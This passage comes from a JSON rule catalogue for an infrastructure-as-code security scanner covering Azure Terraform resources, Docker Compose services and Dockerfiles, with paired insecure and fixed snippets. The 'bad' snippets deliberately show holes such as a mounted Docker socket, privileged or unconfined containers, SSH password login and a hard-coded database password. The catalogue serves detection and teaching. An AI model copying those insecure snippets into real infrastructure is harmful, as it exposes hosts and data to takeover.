    "title": "Storage account allows anonymous public access to blobs",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "When anonymous access is allowed on the account (`allow_nested_items_to_be_public`, which defaults to `true` in azurerm 3.x and 4.x; `allow_blob_public_access = true` in 2.x), any container can be made public with a single setting, and anything in it becomes readable by anyone. Turning it off at the account level is the guardrail Microsoft recommends.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                            = \"acmedata\"\n  resource_group_name             = \"rg\"\n  location                        = \"westeurope\"\n  account_tier                    = \"Standard\"\n  account_replication_type        = \"GRS\"\n  allow_nested_items_to_be_public = false\n}\n",
      "fix": "Set `allow_nested_items_to_be_public = false` (azurerm 3.x/4.x) and serve public content through a CDN or SAS tokens."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/blobs/anonymous-read-access-prevent",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#allow_nested_items_to_be_public"
    ],
    "checkov": [
      "CKV_AZURE_190",
      "CKV2_AZURE_47"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-storage-shared-key-access",
    "title": "Storage account allows Shared Key authorization",
    "severity": "low",
    "cwe": [
      "CWE-522"
    ],
    "description": "Shared Key authorization (on unless `shared_access_key_enabled = false`) means the two account keys, and every SAS token signed with them, grant full access without Entra ID identity, conditional access or per-user audit. Keys are long-lived and often end up in app settings and scripts.",
    "help": {
      "bad": "resource \"azurerm_storage_account\" \"data\" {\n  name                     = \"acmedata\"\n  resource_group_name      = \"rg\"\n  location                 = \"westeurope\"\n  account_tier             = \"Standard\"\n  account_replication_type = \"GRS\"\n}\n",
      "good": "resource \"azurerm_storage_account\" \"data\" {\n  name                      = \"acmedata\"\n  resource_group_name       = \"rg\"\n  location                  = \"westeurope\"\n  account_tier              = \"Standard\"\n  account_replication_type  = \"GRS\"\n  shared_access_key_enabled = false\n}\n",
      "fix": "Grant data access with Entra ID roles (Storage Blob Data Reader/Contributor) and set `shared_access_key_enabled = false` (with `storage_use_azuread = true` in the provider block)."
    },
    "references": [
      "https://learn.microsoft.com/azure/storage/common/shared-key-authorization-prevent",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#shared_access_key_enabled"
    ],
    "checkov": [
      "CKV2_AZURE_40"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-vm-disk-encryption",
    "title": "Virtual machine disks are not encrypted at host or with a customer-managed key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Managed disks are encrypted at rest by the storage service, but temporary disks, caches and the data path between the VM host and storage are not, unless `encryption_at_host_enabled = true`. A disk encryption set (customer-managed key) puts the key under your own control. Managed disks with `encryption_settings { enabled = false }` are reported too.",
    "help": {
      "bad": "resource \"azurerm_linux_virtual_machine\" \"vm\" {\n  name                  = \"app-vm\"\n  resource_group_name   = \"rg\"\n  location              = \"westeurope\"\n  size                  = \"Standard_B2s\"\n  admin_username        = \"azureuser\"\n  network_interface_ids = [\"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Network/networkInterfaces/app\"]\n\n  admin_ssh_key {\n    username   = \"azureuser\"\n    public_key = file(\"~/.ssh/id_ed25519.pub\")\n  }\n\n  os_disk {\n    caching              = \"ReadWrite\"\n    storage_account_type = \"Premium_LRS\"\n  }\n\n  source_image_reference {\n    publisher = \"Canonical\"\n    offer     = \"ubuntu-24_04-lts\"\n    sku       = \"server\"\n    version   = \"latest\"\n  }\n}\n",
      "good": "resource \"azurerm_linux_virtual_machine\" \"vm\" {\n  name                  = \"app-vm\"\n  resource_group_name   = \"rg\"\n  location              = \"westeurope\"\n  size                  = \"Standard_B2s\"\n  admin_username        = \"azureuser\"\n  network_interface_ids = [\"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Network/networkInterfaces/app\"]\n  encryption_at_host_enabled = true\n\n  admin_ssh_key {\n    username   = \"azureuser\"\n    public_key = file(\"~/.ssh/id_ed25519.pub\")\n  }\n\n  os_disk {\n    caching              = \"ReadWrite\"\n    storage_account_type = \"Premium_LRS\"\n  }\n\n  source_image_reference {\n    publisher = \"Canonical\"\n    offer     = \"ubuntu-24_04-lts\"\n    sku       = \"server\"\n    version   = \"latest\"\n  }\n}\n",
      "fix": "Set `encryption_at_host_enabled = true` (after registering the EncryptionAtHost feature), or set `os_disk.disk_encryption_set_id` to a disk encryption set."
    },
    "references": [
      "https://learn.microsoft.com/azure/virtual-machines/disk-encryption-overview",
      "https://learn.microsoft.com/azure/virtual-machines/disks-enable-host-based-encryption-portal"
    ],
    "checkov": [
      "CKV_AZURE_2",
      "CKV_AZURE_97",
      "CKV_AZURE_151"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/azure-vm-password-auth",
    "title": "Linux virtual machine allows SSH password authentication",
    "severity": "high",
    "cwe": [
      "CWE-287",
      "CWE-521"
    ],
    "description": "With `disable_password_authentication = false`, SSH on the VM accepts passwords, which can be guessed, sprayed and reused across machines. Key-based (or Entra ID) login is not exposed to password brute force.",
    "help": {
      "bad": "resource \"azurerm_linux_virtual_machine\" \"vm\" {\n  name                  = \"app-vm\"\n  resource_group_name   = \"rg\"\n  location              = \"westeurope\"\n  size                  = \"Standard_B2s\"\n  admin_username        = \"azureuser\"\n  network_interface_ids = [\"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Network/networkInterfaces/app\"]\n  admin_password                  = var.admin_password\n  disable_password_authentication = false\n\n  os_disk {\n    caching              = \"ReadWrite\"\n    storage_account_type = \"Premium_LRS\"\n  }\n\n  source_image_reference {\n    publisher = \"Canonical\"\n    offer     = \"ubuntu-24_04-lts\"\n    sku       = \"server\"\n    version   = \"latest\"\n  }\n}\n",
      "good": "resource \"azurerm_linux_virtual_machine\" \"vm\" {\n  name                  = \"app-vm\"\n  resource_group_name   = \"rg\"\n  location              = \"westeurope\"\n  size                  = \"Standard_B2s\"\n  admin_username        = \"azureuser\"\n  network_interface_ids = [\"/subscriptions/000/resourceGroups/rg/providers/Microsoft.Network/networkInterfaces/app\"]\n\n  admin_ssh_key {\n    username   = \"azureuser\"\n    public_key = file(\"~/.ssh/id_ed25519.pub\")\n  }\n\n  os_disk {\n    caching              = \"ReadWrite\"\n    storage_account_type = \"Premium_LRS\"\n  }\n\n  source_image_reference {\n    publisher = \"Canonical\"\n    offer     = \"ubuntu-24_04-lts\"\n    sku       = \"server\"\n    version   = \"latest\"\n  }\n}\n",
      "fix": "Remove `admin_password`, set `disable_password_authentication = true` (the default) and add an `admin_ssh_key` (or use Entra ID login)."
    },
    "references": [
      "https://learn.microsoft.com/azure/virtual-machines/linux/create-ssh-keys-detailed",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_virtual_machine#disable_password_authentication"
    ],
    "checkov": [
      "CKV_AZURE_1",
      "CKV_AZURE_49",
      "CKV_AZURE_149",
      "CKV_AZURE_178"
    ],
    "platform": "terraform",
    "provider": "azure",
    "tags": [
      "terraform",
      "azure",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/compose-dangerous-capability",
    "title": "Service adds a dangerous Linux capability",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "Capabilities such as SYS_ADMIN (mount, namespaces: nearly root), NET_ADMIN, SYS_PTRACE, SYS_MODULE or ALL give the container powers that break its isolation from the host. (NET_RAW is in Docker's default set, so adding it changes nothing and is not reported.)",
    "help": {
      "bad": "services:\n  vpn:\n    image: registry.example.com/vpn:2.6.0\n    cap_add:\n      - NET_ADMIN\n",
      "good": "services:\n  vpn:\n    image: registry.example.com/vpn:2.6.0\n    cap_drop: [ALL]\n    cap_add:\n      - NET_BIND_SERVICE\n",
      "fix": "Remove the capability from `cap_add`; find a narrower capability or a design that does not need it."
    },
    "references": [
      "https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities",
      "https://man7.org/linux/man-pages/man7/capabilities.7.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-docker-socket",
    "title": "Service mounts the Docker socket",
    "severity": "critical",
    "cwe": [
      "CWE-250",
      "CWE-668"
    ],
    "description": "The Docker (or containerd, Podman) socket is the daemon's API: whoever can write to it can start a privileged container with the host filesystem mounted, which is root on the host. A read-only bind mount does not help: `:ro` does not stop API calls over the socket.",
    "help": {
      "bad": "services:\n  ci-runner:\n    image: registry.example.com/runner:17.2.0\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
      "good": "services:\n  ci-runner:\n    image: registry.example.com/runner:17.2.0\n    volumes:\n      - runner-config:/etc/runner\nvolumes:\n  runner-config:\n",
      "fix": "Do not mount the socket; use a socket proxy that allows only the API calls needed, or build with a daemonless builder."
    },
    "references": [
      "https://docs.docker.com/engine/security/#docker-daemon-attack-surface",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html#rule-1-do-not-expose-the-docker-daemon-socket-even-to-the-containers"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-exposed-database-port",
    "title": "Database or admin port published on all interfaces",
    "severity": "low",
    "cwe": [
      "CWE-668"
    ],
    "description": "A `ports` entry without a host address (`\"5432:5432\"`) publishes the port on every interface of the host, and Docker's iptables rules bypass host firewalls such as ufw. Databases, caches and admin APIs published this way are reachable from the network, often with default credentials.",
    "help": {
      "bad": "services:\n  db:\n    image: postgres:16.3\n    ports:\n      - \"5432:5432\"\n",
      "good": "services:\n  db:\n    image: postgres:16.3\n    ports:\n      - \"127.0.0.1:5432:5432\"\n",
      "fix": "Bind the port to the loopback address (`\"127.0.0.1:5432:5432\"`), or do not publish it and reach the service over the compose network."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#ports",
      "https://docs.docker.com/engine/network/packet-filtering-firewalls/"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-host-ipc",
    "title": "Service shares the host IPC namespace",
    "severity": "medium",
    "cwe": [
      "CWE-668"
    ],
    "description": "`ipc: host` gives the container access to the shared memory and IPC objects of every process on the host, which can leak or corrupt their data.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    ipc: host\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    ipc: private\n",
      "fix": "Remove `ipc: host`; use `ipc: shareable` / `service:<name>` to share IPC between specific services."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#ipc",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-host-network",
    "title": "Service uses the host network",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "`network_mode: host` puts the container on the host's network stack: it can bind any port of the host, reach services listening on the host's localhost and sniff its traffic, and the host firewall rules for Docker no longer isolate it.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    network_mode: host\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    ports:\n      - \"127.0.0.1:8080:8080\"\n",
      "fix": "Remove `network_mode: host` and publish the ports the service needs with `ports:`."
    },
    "references": [
      "https://docs.docker.com/engine/network/drivers/host/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-host-pid",
    "title": "Service shares the host PID namespace",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "`pid: host` lets the container see every process of the host, read their command lines and environment (often with secrets) and, with enough privileges, signal or trace them.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    pid: host\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    init: true\n",
      "fix": "Remove `pid: host`."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#pid",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-host-userns",
    "title": "Service disables user namespace remapping",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "`userns_mode: host` opts the container out of the daemon's user namespace remapping, so root in the container is root on the host again.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    userns_mode: host\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    user: \"10001\"\n",
      "fix": "Remove `userns_mode: host`."
    },
    "references": [
      "https://docs.docker.com/engine/security/userns-remap/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-image-latest",
    "title": "Image uses the latest tag or no tag",
    "severity": "medium",
    "cwe": [
      "CWE-1357"
    ],
    "description": "An image without a tag, or tagged `latest`, is whatever was pushed last: builds are not reproducible and a compromised or broken push is picked up on the next pull. Services with `build:` (where `image:` names the built image) and interpolated images (`${TAG}`) are not reported.",
    "help": {
      "bad": "services:\n  db:\n    image: postgres\n",
      "good": "services:\n  db:\n    image: postgres:16.3\n",
      "fix": "Pin the image to a version tag, or better to a digest (`postgres:16.3@sha256:...`)."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#image",
      "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"
    ],
    "tags": [
      "compose",
      "docker",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "platform": "compose"
  },
  {
    "id": "iac/compose-no-resource-limits",
    "title": "Service has no memory or CPU limit",
    "severity": "low",
    "cwe": [
      "CWE-770"
    ],
    "description": "Without `deploy.resources.limits` (or `mem_limit` / `cpus`), one container can use all memory and CPU of the host and take the other services down with it, after a leak, a load spike or a compromise.",
    "help": {
      "bad": "services:\n  api:\n    image: registry.example.com/api:5.2.0\n",
      "good": "services:\n  api:\n    image: registry.example.com/api:5.2.0\n    deploy:\n      resources:\n        limits:\n          cpus: \"1.0\"\n          memory: 512M\n",
      "fix": "Set `deploy.resources.limits.memory` (and `cpus`) for the service."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/deploy/#resources",
      "https://docs.docker.com/engine/containers/resource_constraints/"
    ],
    "tags": [
      "compose",
      "docker",
      "availability"
    ],
    "precision": "high",
    "platform": "compose"
  },
  {
    "id": "iac/compose-privileged",
    "title": "Privileged service",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "`privileged: true` gives the container every capability, all host devices and no seccomp or AppArmor confinement: root in the container is root on the host.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    privileged: true\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    cap_drop: [ALL]\n",
      "fix": "Remove `privileged: true`; add the single capability or device the service needs instead."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#privileged",
      "https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-secret-in-environment",
    "title": "Hard-coded secret in a service environment",
    "severity": "medium",
    "cwe": [
      "CWE-798"
    ],
    "description": "A password, token or key written in `environment:` is committed with the compose file and shown by `docker inspect` to anyone with access to the daemon. Secret-like names (PASSWORD, SECRET, TOKEN, API_KEY, ...) with a literal value, and URLs with an inline password, are reported; `${VAR}` interpolation and variables passed through without a value are not.",
    "help": {
      "bad": "services:\n  db:\n    image: postgres:16.3\n    environment:\n      POSTGRES_PASSWORD: s3cr3t-Passw0rd\n",
      "good": "services:\n  db:\n    image: postgres:16.3\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n    secrets:\n      - db_password\nsecrets:\n  db_password:\n    file: ./secrets/db_password.txt\n",
      "fix": "Use compose `secrets:` (mounted as files), or `${VAR}` interpolation from an untracked `.env` file; rotate the exposed credential."
    },
    "references": [
      "https://docs.docker.com/compose/how-tos/use-secrets/",
      "https://docs.docker.com/compose/how-tos/environment-variables/set-environment-variables/"
    ],
    "tags": [
      "compose",
      "docker",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "high",
    "platform": "compose"
  },
  {
    "id": "iac/compose-security-opt-unconfined",
    "title": "Service disables seccomp, AppArmor or SELinux confinement",
    "severity": "high",
    "cwe": [
      "CWE-693"
    ],
    "description": "`seccomp:unconfined`, `apparmor:unconfined`, `label:disable` and `systempaths=unconfined` remove the kernel-level confinement Docker applies to every container: the system-call filter, the AppArmor or SELinux policy, and the masking of sensitive `/proc` and `/sys` paths.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    security_opt:\n      - seccomp:unconfined\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    security_opt:\n      - no-new-privileges:true\n",
      "fix": "Remove the option; if the application needs a blocked system call, write a custom seccomp profile that allows only that call."
    },
    "references": [
      "https://docs.docker.com/engine/security/seccomp/",
      "https://docs.docker.com/engine/security/apparmor/"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-sensitive-host-path",
    "title": "Service mounts a sensitive host path",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "Bind-mounting a system directory of the host (`/`, `/etc`, `/proc`, `/sys`, `/root`, `/var/lib/docker`, ...) exposes host credentials, the data of every other container and kernel interfaces; with write access it is a direct escape to the host. Project directories (`./data`) and named volumes are not reported.",
    "help": {
      "bad": "services:\n  backup:\n    image: registry.example.com/backup:1.0.0\n    volumes:\n      - /etc:/host/etc:ro\n",
      "good": "services:\n  backup:\n    image: registry.example.com/backup:1.0.0\n    volumes:\n      - ./backup.conf:/etc/backup.conf:ro\n      - backups:/backups\nvolumes:\n  backups:\n",
      "fix": "Mount only the specific files the service needs, from the project directory or a named volume."
    },
    "references": [
      "https://docs.docker.com/engine/storage/bind-mounts/",
      "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/compose-user-root",
    "title": "Service explicitly runs as root",
    "severity": "medium",
    "cwe": [
      "CWE-250"
    ],
    "description": "`user: root` (or UID 0) overrides the non-root USER of the image. Root in the container can write every file of the image and of mounted volumes, and is one kernel bug or misconfiguration away from root on the host.",
    "help": {
      "bad": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    user: root\n",
      "good": "services:\n  app:\n    image: registry.example.com/app:1.4.2\n    user: \"10001:10001\"\n",
      "fix": "Run as an unprivileged UID (`user: \"10001:10001\"`) and fix file ownership in the image instead."
    },
    "references": [
      "https://docs.docker.com/reference/compose-file/services/#user",
      "https://docs.docker.com/engine/security/#linux-kernel-capabilities"
    ],
    "precision": "high",
    "platform": "compose",
    "tags": [
      "compose",
      "docker",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/docker-add-instead-of-copy",
    "title": "ADD used where COPY suffices",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "ADD copies local files like COPY, but also fetches URLs and unpacks tar archives. Using it for plain files hides that behaviour: a file that later becomes an archive is silently extracted. COPY does only what it says.",
    "help": {
      "bad": "FROM alpine:3.20\nADD app.py /app/app.py\n",
      "good": "FROM alpine:3.20\nCOPY app.py /app/app.py\n",
      "fix": "Use COPY for local files and folders; keep ADD only for local tar archives that must be unpacked."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#add-or-copy",
      "https://docs.docker.com/reference/dockerfile/#add"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_4"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-add-remote-url",
    "title": "ADD downloads a remote file without a checksum",
    "severity": "medium",
    "cwe": [
      "CWE-494"
    ],
    "description": "ADD with a URL downloads the file at build time and puts it in the image without checking what it received. If the server or the network path is compromised, or the file simply changes, the image gets different content with no error.",
    "help": {
      "bad": "FROM alpine:3.20\nADD https://example.com/tool.tar.gz /opt/\n",
      "good": "FROM alpine:3.20\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://example.com/tool.tar.gz /opt/\n",
      "fix": "Add `--checksum=sha256:<digest>` to ADD (BuildKit), pin Git sources to a commit, or download in a RUN that verifies a checksum or signature."
    },
    "references": [
      "https://docs.docker.com/reference/dockerfile/#add---checksum",
      "https://docs.docker.com/build/building/best-practices/#add-or-copy"
    ],
    "tags": [
      "dockerfile",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_4"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apk-no-cache",
    "title": "apk add without --no-cache",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "Without `--no-cache`, apk keeps the package index in /var/cache/apk, which stays in the image layer: a bigger image and stale metadata shipped to production.",
    "help": {
      "bad": "FROM alpine:3.20\nRUN apk add curl\n",
      "good": "FROM alpine:3.20\nRUN apk add --no-cache curl\n",
      "fix": "Use `apk add --no-cache ...` (or remove /var/cache/apk/* in the same RUN, or use a cache mount)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#run",
      "https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-cli",
    "title": "apt used in a script instead of apt-get",
    "severity": "info",
    "cwe": [
      "CWE-710"
    ],
    "description": "`apt` is the interactive front end: its output and behaviour may change between releases and it warns that it has no stable command-line interface. Scripts such as Dockerfile RUN instructions should use `apt-get` and `apt-cache`.",
    "help": {
      "bad": "FROM debian:12\nRUN apt update && apt install -y curl\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Replace `apt` with `apt-get` (or `apt-cache` for searches)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get",
      "https://manpages.debian.org/stable/apt/apt.8.en.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_9"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-lists-not-cleaned",
    "title": "apt lists not removed in the RUN that downloads them",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "`apt-get update` downloads package lists into /var/lib/apt/lists. Unless the same RUN removes them, they stay in the image layer forever (tens of megabytes), and a later `rm` in another RUN does not shrink the image.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "End the RUN that runs `apt-get update` and `apt-get install` with `rm -rf /var/lib/apt/lists/*` (or use a cache mount for /var/lib/apt)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-missing-yes",
    "title": "apt-get install without -y",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "Without `-y`, apt-get asks for confirmation; a build has no terminal, so apt-get aborts and the build fails (or, with a prompt answered by accident, behaves differently from what was reviewed).",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get install --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Add `-y` (`--yes`) to apt-get install, upgrade and remove commands."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get",
      "https://manpages.debian.org/stable/apt/apt-get.8.en.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-no-install-recommends",
    "title": "apt-get install without --no-install-recommends",
    "severity": "low",
    "cwe": [
      "CWE-1164"
    ],
    "description": "By default apt-get also installs \"recommended\" packages, which the application rarely needs. They make the image bigger and add software (and vulnerabilities) to patch.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Add `--no-install-recommends` to apt-get install (or set `APT::Install-Recommends \"false\"` in an apt configuration file)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get",
      "https://manpages.debian.org/stable/apt/apt-get.8.en.html"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-unpinned-packages",
    "title": "apt-get install without version pins",
    "severity": "low",
    "cwe": [
      "CWE-1357"
    ],
    "description": "Packages installed without a version get whatever the mirror serves at build time: two builds of the same Dockerfile can differ, and a broken or compromised update enters the image without a code change.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl=7.88.1-10+deb12u8 && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Pin versions with `package=version` (and update them deliberately, e.g. with a dependency bot), or pin the base image by digest and accept its package set."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get"
    ],
    "tags": [
      "dockerfile",
      "owasp:A06:2021"
    ],
    "precision": "medium",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-update-alone",
    "title": "Package index updated in a RUN that installs nothing",
    "severity": "low",
    "cwe": [
      "CWE-710"
    ],
    "description": "A RUN that only runs `apt-get update` (or `apk update`) is cached as its own layer. Later RUN instructions that install packages reuse that cached, stale index, so builds install outdated versions or fail when the mirror has moved on.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update\nRUN apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Run `apt-get update` and `apt-get install` in the same RUN instruction (for apk, use `apk add --no-cache`)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_DOCKER_5"
    ],
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-apt-upgrade",
    "title": "apt-get upgrade in a Dockerfile",
    "severity": "info",
    "cwe": [
      "CWE-1357"
    ],
    "description": "`apt-get upgrade` / `dist-upgrade` upgrade whatever is outdated at build time, so the image content depends on the day it was built, and the layer duplicates much of the base image. Security fixes are better taken from an updated base image.",
    "help": {
      "bad": "FROM debian:12\nRUN apt-get update && apt-get -y dist-upgrade && rm -rf /var/lib/apt/lists/*\n",
      "good": "FROM debian:12.8\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
      "fix": "Rebuild on a newer base image tag instead, and install only the packages you need (upgrading one package with `apt-get install --only-upgrade <pkg>` when required)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#apt-get"
    ],
    "tags": [
      "dockerfile",
      "owasp:A05:2021"
    ],
    "precision": "high",
    "platform": "dockerfile"
  },
  {
    "id": "iac/docker-base-image-latest",
    "title": "Base image uses the latest tag",
    "severity": "medium",
    "cwe": [
      "CWE-1357"
    ],
    "description": "A base image without a tag, or tagged `latest`, is whatever the registry serves at build time. Builds stop being reproducible, a new major version can break the application, and a compromised or broken push reaches production without review.",
    "help": {
      "bad": "FROM node:latest\nCMD [\"node\", \"server.js\"]\n",
      "good": "FROM node:20.18-bookworm-slim\nCMD [\"node\", \"server.js\"]\n",
      "fix": "Use an explicit version tag (ideally also pinned by digest: `image:tag@sha256:...`)."
    },
    "references": [
      "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions",
      "https://docs.docker.com/reference/dockerfile/#from"
    ],
    "tags": [
      "dockerfile",
      "owasp:A06:2021"
    ],
    "precision": "high",
    "checkov": [
